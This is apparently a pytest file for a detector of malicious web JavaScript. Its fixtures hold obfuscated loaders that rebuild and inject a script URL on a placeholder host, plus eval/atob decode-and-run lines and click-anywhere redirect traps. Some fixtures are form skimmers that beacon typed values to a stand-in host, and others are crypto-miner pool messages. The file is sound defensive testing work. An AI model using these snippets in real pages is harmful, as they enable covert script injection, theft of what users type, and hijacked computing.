"""Loops that make a text letter by letter, and what else stands for an address or a name."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable

import pytest

from cyberscan.parse.scripts.script import moves, read, workers, writes

URL = "https://jahat.test/a.js"
TAG = f'<script src="{URL}"></script>'


def listed(text: str, change: Callable[[int, int], int] = lambda c, _: c) -> str:
    """Return the codes of a text, each changed by what is made of it and its place."""
    return ",".join(str(change(ord(c), i)) for i, c in enumerate(text))


def paired(text: str, key: int = 0) -> str:
    return "".join(f"{ord(c) ^ key:02x}" for c in text)


PLUS = listed(TAG, lambda c, _: c + 3)
NINE = listed(URL, lambda c, _: c + 9)
NAMES = paired(f"document|createElement|script|src|{URL}", 29)
HEX = ",".join(f"'{ord(c):x}'" for c in URL)
# ECMA-262 sections 13.6 to 13.12: the operators and their precedence.
LOOPS = [
    (f"[{listed(URL, lambda c, _: c + 7)}]", "a[i]-7"),
    (f"[{listed(URL, lambda c, i: c + i % 7 + 11)}]", "a[i]-i%7-11"),
    (f"[{listed(URL, lambda c, i: c + i % 7 + 11)}]", "a[i]-(i%7+11)"),
    (f"[{listed(URL, lambda c, _: c * 3 - 1)}]", "(a[i]+1)/3"),
    (f"[{listed(URL, lambda c, _: c ^ 29)}]", "a[i]^29"),
    (f"[{listed(URL, lambda c, i: c ^ (i & 15))}]", "a[i]^(i&15)"),
    (f"[{listed(URL, lambda c, _: c << 2)}]", "a[i]>>2"),
    (f"[{listed(URL, lambda c, _: -c)}]", "-a[i]"),
    (f"[{listed(URL, lambda c, _: c + 31)}]", "a[i]-k"),
    (f"[{listed(URL, lambda c, i: c - i)}]", "a[i]+i"),
    (f"'{URL}'", "a.charCodeAt(i)"),
    (f"'{paired(URL)}'", "parseInt(a.substr(i,2),16)"),
    (f"'{paired(URL, 90)}'", "parseInt(a.substr(i,2),16)^0x5a"),
    (f"'{paired(URL, 31)}'", "parseInt(a.substring(i,i+2),16)^k"),
    (f"[{HEX}]", "parseInt(a[i],16)"),
]


@pytest.mark.parametrize(("constant", "formula"), LOOPS)
@pytest.mark.parametrize("use", ["location=s", "var e=document.createElement('script');e.src=s"])
def test_what_a_loop_makes_is_read(constant: str, formula: str, use: str) -> None:
    step = "i+=2" if "sub" in formula else "i++"
    loop = f"for(i=0;i<a.length;{step})s+=String.fromCharCode({formula});"
    code = read(f"var k=31,s='',i,a={constant};{loop}{use}", "s")
    assert code is not None
    assert "jahat.test" in code.hosts
    # An address that nothing was done to can be read by whoever searches for it.
    assert ("pieced" if "jahat.test" in constant else "disguised") in code.traits


FIVE = listed(URL, lambda c, _: c + 5)
MOVED = {
    # The address is spelt by the numbers, whatever undoes them.
    "reduce": f"[{FIVE}].reduce(function(a,c){{return a+String.fromCharCode(c-5)}},'')",
    "from": f"Array.from([{FIVE}],c=>String.fromCharCode(c-5)).join('')",
    "apply": f"String.fromCharCode.apply(null,[{FIVE}].map(c=>c-5))",
    "spread": f"String.fromCharCode(...[{FIVE}].map(c=>c-5))",
    "split": f"'{FIVE}'.split(',').map(c=>String.fromCharCode(c-5)).join('')",
}
FUNCTIONS = {
    "pairs": (
        "function d(h,k){var o='';for(var i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt("
        f"h.substr(i,2),16)^k);return o}}location=d('{paired(URL, 7)}',7)"
    ),
    "a list": (
        "function d(a){var o='';for(var i=0;i<a.length;i++)o+=String.fromCharCode(a[i]-i%5-3);"
        f"return o}}location=d([{listed(URL, lambda c, i: c + i % 5 + 3)}])"
    ),
    "of": f"var s='';for(const c of [{FIVE}])s+=String.fromCharCode(c-5);location.href=s",
    "while": (
        f"var a='{paired(URL, 7)}',s='',i=0;while(i<a.length){{s+=String.fromCharCode(parseInt("
        "a.substr(i,2),16)^7);i+=2}location=s"
    ),
    "three digits": (
        f"var a='{''.join(f'{ord(c):03d}' for c in URL)}',s='',i;for(i=0;i<a.length;i+=3)"
        "s+=String.fromCharCode(+a.substr(i,3));location=s"
    ),
    "a key": (
        f"var a=[{listed(URL, lambda c, i: c ^ ord('kunci'[i % 5]))}],s='',i;for(i in a)"
        "s+=String.fromCharCode(a[i]^'kunci'.charCodeAt(i%5));location=s"
    ),
    "points": (
        f"var a=[{FIVE}],s='';for(var i=0;i<a.length;i++)s+=String.fromCodePoint(a[i]-5);location=s"
    ),
}


@pytest.mark.parametrize(
    "source", [*(f"location={made}" for made in MOVED.values()), *FUNCTIONS.values()]
)
def test_other_ways_to_spell_where_it_goes(source: str) -> None:
    code = read(source, "s")
    assert code is not None
    assert "disguised" in code.traits
    assert moves(source) == (URL,)


@pytest.mark.parametrize(
    "formula", ["a[i]-i", "a[i].charCodeAt(0)-1", "+a.substr(i,9)", "parseInt(a[i],16)", "a[i]/0"]
)
@pytest.mark.parametrize("value", ["['abc','','7']", "['']", "[]", "''", "'zz'", "[1e15,-1]"])
def test_lists_of_anything_are_gone_through(value: str, formula: str) -> None:
    read(f"var a={value},s='',i;for(i in a)s+=String.fromCharCode({formula});location=s", "s")


@pytest.mark.parametrize(
    "mapped",
    [
        f"[{PLUS}].map(function(c){{return String.fromCharCode(c-3)}}).join('')",
        f"[{listed(TAG, lambda c, i: c + i)}].map((c,i)=>String.fromCharCode(c-3+3-0)).join('')",
        f"[{listed(TAG, lambda c, _: c * 2)}].map(c=>String.fromCharCode(c/2)).join('')",
        f"[{listed(TAG, lambda c, _: c ^ 77)}].map(c=>String.fromCharCode(c^77)).join('')",
    ],
)
def test_what_a_mapping_makes_is_read(mapped: str) -> None:
    code = read(f"document.write({mapped})", "s")
    assert code is not None
    assert "fromCharCode" in code.traits


@pytest.mark.parametrize(
    "source",
    [
        # A name by which String or the window is known, and the arguments of ``call``.
        (
            f"(function(t,h){{var o='',j=0;for(;j<h.length;j+=2)o+=t['from'+'CharCode'](parseInt("
            f"h.substr(j,2),16));location=o}}).call(window,String,'{paired(URL)}')"
        ),
        (f"var l=[{NINE}],k=9,s='';for(var x in l)s+=String['from'+'CharCode'](l[x]-k);location=s"),
        # All names in one list, which is kept in disguise.
        (
            f"var a='{NAMES}',o='',j=0;for(;j<a.length;j+=2)o+=String.fromCharCode(parseInt("
            "a.substr(j,2),16)^29);var p=o.split('|'),d=this[p[0]],e=d[p[1]](p[2]);e[p[3]]=p[4];"
            "d.body.append(e)"
        ),
    ],
)
def test_other_ways_to_call_it(source: str) -> None:
    code = read(source, "s")
    assert code is not None
    assert "disguised" in code.traits
    assert "jahat.test" in code.hosts


@pytest.mark.parametrize(
    "formula",
    [
        # What is unknown, has no end, or is no formula.
        "b[i]-3", "65+i", "a[i]-f(i)", "a[i]-b", "a[a[i]]-q.z", "(a[i]", "a[i]*", "a[i]/0",
        "a[9e9]", "a[i]**2", "a[-i]", "a[i]?1:2", "parseInt(a[i],99)", "parseInt(z,16)", "",
    ],
)  # fmt: skip
def test_other_formulas_make_nothing(formula: str) -> None:
    read(f"var s='',i,a=[{listed(URL)}];for(i=0;i<9;i++)s+=String.fromCharCode({formula});", "s")


@pytest.mark.parametrize(
    "text",
    [
        "s+=String.fromCharCode(a[i]-(((((((",
        "a=[1,2,3];s+=String.fromCharCode(a[i]-i%7-11);",
        "s+=String.fromCharCode(1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1",
        "document[a](",
        "t=e.target;",
        "document.addEventListener('click',f);function f(){location='https://a.test/'}",
    ],
)
def test_a_long_script_of_formulas_is_read_to_its_end(text: str) -> None:
    read(text * (200_000 // len(text)), "s")


def test_a_long_list_is_read_within_bounds() -> None:
    source = f"var a=[{'7,' * 59_000}7],s='';for(i in a)s+=String.fromCharCode(a[i]*2-i%5^9);"
    read(source, "s")


@pytest.mark.parametrize(
    "source",
    [
        # Heard by the whole page, whatever the event, the page and the function are called.
        "document.addEventListener('click',go);function go(){window.open('https://a.test/')}",
        "function go(){open('https://a.test/')}addEventListener('scroll',go,{once:true})",
        "var go=function(){location='https://a.test/'};document.body.addEventListener('mousedown',go)",
        "const go=()=>{location='https://a.test/'};window.addEventListener('touchstart',go,true)",
        (
            "(function(w,d){var q=['touch'+'start','click'];function go(){w.open('https://a.test/')}"
            "q.forEach(function(n){d.addEventListener(n,go,true)})})(window,document)"
        ),
        (
            "document.documentElement.addEventListener('mousedown',function k(e){this."
            "removeEventListener('mousedown',k);var w=open('https://a.test/');w&&w.blur()})"
        ),
        # What it looks at is not what was hit.
        (
            "document.addEventListener('click',go);function go(){document.body.classList.add('x');"
            "window.open('https://a.test/')}"
        ),
    ],
)
def test_traps_for_a_click_anywhere(source: str) -> None:
    code = read(source, "s")
    assert code is not None
    assert "anywhere" in code.traits
    assert moves(source) == ("https://a.test/",)


@pytest.mark.parametrize(
    "source",
    [
        # Buttons whose clicks the page hears at its root, and keys.
        (
            "document.addEventListener('click',function(e){var t=e.target.closest('.lapor');if(t)"
            "window.open('https://a.test/')})"
        ),
        (
            "document.addEventListener('click',k);function k(e){if(!e.target.matches('.x'))return;"
            "window.open('https://a.test/')}"
        ),
        "document.body.addEventListener('click',e=>{if(e.target.id==='wa')location='https://a.test/'})",
        "$(document).on('click',function(e){if($(e.target).is('.b'))location='https://a.test/'})",
        "document.onclick=function(e){var t=e.target;if(t.dataset.pergi)location='https://a.test/'}",
        (
            "document.addEventListener('keydown',function(e){if(e.key==='Escape')location='https://a.test/'"
            "})"
        ),
        # A button of its own, also one that is called as the page is.
        (
            "function go(){location='https://a.test/'}document.getElementById('b').addEventListener("
            "'click',go)"
        ),
        (
            "function go(){location='https://a.test/'}document.getElementById('top').addEventListener("
            "'click',go)"
        ),
        # Who does nothing for a while is signed out.
        (
            "var t;function r(){clearTimeout(t);t=setTimeout(function(){location='https://a.test/'},9e5)}"
            "document.addEventListener('mousemove',r)"
        ),
        # A window of the script's own.
        "function open(u){tampil(u)}open('https://a.test/')",
        "var x=new XMLHttpRequest();x.open('GET','https://a.test/')",
    ],
)
def test_clicks_on_something_move_nobody(source: str) -> None:
    assert moves(source) == ()


@pytest.mark.parametrize(
    ("source", "traits"),
    [
        # Decoded and run, by other names.
        ("var u=window['a'+'t'+'ob'];(new window['Fun'+'ction'](u(el.dataset.o)))()", {"held"}),
        ("var u=atob;eval(u(x.getAttribute('a')))", {"held"}),
        (
            (
                "const g=c.fitur.map(x=>self.atob(x.split('').reverse().join('')));const[e,u,k]=g;"
                "const n=document[e](u);n[k+'rc']=g[3];document.head.append(n)"
            ),
            {"kept"},
        ),
        # All that is typed, whatever is hit.
        (
            (
                "var s={};function p(e){var t=e.target;s[t.id]=t.value;(new Image()).src='https://a.test/"
                "c?v='+b(s)}document.addEventListener('focusout',p,true)"
            ),
            {"gathers", "beacon"},
        ),
        (
            (
                "document.addEventListener('change',e=>{d[e.target.name]=e.target.value;navigator."
                "sendBeacon('https://a.test/',q(d))})"
            ),
            {"gathers", "blind"},
        ),
        # A miner's messages to its pool.
        (
            (
                "var k=new WebSocket('wss://a.test/');k.send(JSON.stringify({type:'submit',params:{job_id:"
                "j.job_id,nonce:n,site_key:s}}))"
            ),
            {"miner"},
        ),
        (
            (
                "var src=\"var s=new WebSocket('wss://a.test/');s.send({type:'submit',job_id:1,blob:2,"
                'target:3})";new Worker(URL.createObjectURL(new Blob([src])))'
            ),
            {"miner"},
        ),
    ],
)
def test_traits_by_other_names(source: str, traits: set[str]) -> None:
    code = read(source, "s")
    assert code is not None
    assert traits <= {*code.traits}


@pytest.mark.parametrize(
    ("source", "trait"),
    [
        ("document[fn.exit]();var a=atob(x.dataset.a)", "kept"),
        ("document[e](u)", "kept"),
        ("var a=atob(x.a);img.src=a;" + "f();" * 900 + "document[e](u)", "kept"),
        (
            (
                "document.addEventListener('change',e=>{if(e.target.value.length>3)navigator.sendBeacon("
                "'https://a.test/',q(e.target.name))})"
            ),
            "gathers",
        ),
        (
            (
                "document.addEventListener('submit',e=>{var q=e.target.querySelector('#q').value;"
                "navigator.sendBeacon('https://a.test/',q)})"
            ),
            "gathers",
        ),
        (
            (
                "var w=new WebSocket('wss://a.test/');w.binaryType='blob';w.onmessage=e=>{e.target.x=1};"
                "f.onsubmit=submit;w.send({nonce:wp.nonce,site_key:k})"
            ),
            "miner",
        ),
        (
            (
                "new Worker('/w.js');var w=new WebSocket('wss://a.test/');w.send({login:u,nonce:wp.nonce,"
                "target:'cs',submit:1})"
            ),
            "miner",
        ),
    ],
)
def test_their_honest_counterparts(source: str, trait: str) -> None:
    code = read(source, "s")
    assert code is None or trait not in code.traits


def test_workers_that_are_files_are_told() -> None:
    assert workers("for(i=0;i<3;i++)new Worker('/js/w.js')") == ("/js/w.js",)
    assert workers("navigator.serviceWorker.register('/sw.js')") == ("/sw.js",)
    assert workers("new Worker(url)") == ()


def test_a_variable_may_be_called_like_a_member() -> None:
    assert URL in writes(f"var src='{URL}',e=document.createElement('script');e.src=src")


def test_a_text_of_many_names_that_makes_nothing_loads_nothing() -> None:
    said = b64encode(b"judul|isi|https://gambar.test/a.png").decode()
    code = read(f"var a=atob('{said}').split('|');img.src=a[2]", "s")
    assert code is None or "loader" not in code.traits
